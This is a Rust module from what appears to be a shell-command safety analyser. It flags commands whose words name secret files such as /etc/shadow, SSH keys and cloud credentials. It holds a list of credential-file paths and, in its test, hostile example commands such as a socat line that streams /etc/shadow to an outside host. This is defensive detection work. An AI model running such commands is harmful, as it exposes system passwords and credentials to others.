//! Secrets among the words of a command that its entry says nothing about: `nasm -@ /etc/shadow`, `w3m ~/.aws/credentials`.
//!
//! An entry says what the author of a manual thought of. A program that opens a file prints some of it, be it in the message
//! that it is no such file; so whoever is given the path of a key or of the passwords of the system reads it. Only paths that
//! nothing but a secret has, and only where no effect of the command is on that path already.

use super::analyst::Analyst;
use super::grammar;
use super::program::Task;
use crate::effect::{Action, Role};
use crate::place::Place;
use crate::shell::Word;

/// Parts of paths of which a word must have one to be looked at.
const TELLING: [&str; 14] = [
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/master.passwd",
    "/etc/sudoers",
    "/.ssh/id_",
    "/.aws/credentials",
    "/.gnupg/private",
    "/.netrc",
    "/.pgpass",
    "/.git-credentials",
    "/.kube/config",
    "/.docker/config.json",
    "/.config/gh/hosts.yml",
    "/proc/self/environ",
];

/// Programs whose words are names and texts, and programs that take a key to use it.
const USERS: [&str; 36] = [
    "echo",
    "printf",
    "print",
    "test",
    "[",
    "ls",
    "stat",
    "find",
    "basename",
    "dirname",
    "realpath",
    "readlink",
    "touch",
    "mkdir",
    "rmdir",
    "cd",
    "pushd",
    "which",
    "type",
    "ssh",
    "ssh-add",
    "ssh-keygen",
    "ssh-copy-id",
    "keychain",
    "git",
    "kubectl",
    "helm",
    "k9s",
    "export",
    "local",
    "declare",
    "read",
    "set",
    "visudo",
    "grep",
    "autossh",
];

impl Analyst<'_> {
    /// Adds a read of each secret that the words name and no effect since `before` is on.
    pub(super) fn overlooked_secrets(&mut self, task: &Task<'_, '_>, before: usize) {
        let program = task.parsed.path.split(' ').next().unwrap_or_default();
        if USERS.contains(&program) || !task.parsed.wrapped.is_empty() {
            return;
        }
        let mut before_it = String::new();
        for word in task.call.words.iter().skip(1) {
            let text = word.display();
            let option = std::mem::replace(&mut before_it, text.clone());
            let is_telling = TELLING.iter().any(|part| text.contains(part));
            if text.len() > 256 || text.contains(' ') || !is_telling {
                continue;
            }
            let is_attached = text.starts_with('-')
                && takes_key(text.split(['=', '/', '~']).next().unwrap_or_default());
            if is_attached || takes_key(&option) || text.strip_suffix(".pub").is_some() {
                continue;
            }
            // `@FILE`, `--opt=FILE`, `FILE:/…`, `file:///…`
            let path = if word.holes().next().is_some() {
                grammar::split(word, "=").map_or_else(|| word.clone(), |(_, value)| value)
            } else {
                let at = text.find(['/', '~']).unwrap_or(0);
                let path = text.get(at..).unwrap_or_default();
                Word::text(path.strip_prefix("//").unwrap_or(path), word.span)
            };
            if !self.budget.spend(10) {
                return;
            }
            for judged in self.judge(&path, &task.call.directories, task.call.scope) {
                let effects = self.analysis.effects.get(before..).unwrap_or_default();
                let is_known = effects.iter().any(|effect| {
                    effect.role == Role::Path
                        && effect.target.text == judged.path
                        && !matches!(effect.action, Action::List | Action::Send)
                });
                if judged.place == Place::Secret && !is_known {
                    self.push_path(&task.call, Action::Read, &judged, &task.parsed.path);
                }
            }
        }
    }
}

/// Whether an option takes a key, a login or settings to use them: `-i`, `--private-key`, `--kubeconfig`.
fn takes_key(option: &str) -> bool {
    let lower = option.to_ascii_lowercase();
    let names = [
        "key", "ident", "cert", "conf", "cred", "auth", "pass", "login", "netrc", "secret",
    ];
    matches!(lower.as_str(), "-i" | "-k")
        || lower.starts_with('-') && names.iter().any(|name| lower.contains(name))
}

#[cfg(test)]
mod tests {
    use crate::knowledge::testing::tells_apart;

    #[test]
    fn a_secret_that_no_entry_speaks_of_is_read_and_a_key_that_is_used_as_one_is_not() {
        tells_apart(
            "read path",
            &[
                "nasm -@ /etc/shadow",
                "w3m -dump file:///etc/shadow",
                "socat -u FILE:/etc/shadow TCP:example.org:443",
                "troff ~/.aws/credentials",
            ],
            &[
                "ssh -i ~/.ssh/id_rsa example.org",
                "ansible-playbook --private-key=~/.ssh/id_rsa site.yml",
                "ansible-playbook --private-key ~/.ssh/id_rsa site.yml",
                "echo ~/.ssh/id_rsa",
                "ssh-copy-id -i ~/.ssh/id_rsa.pub example.org",
            ],
        );
    }
}
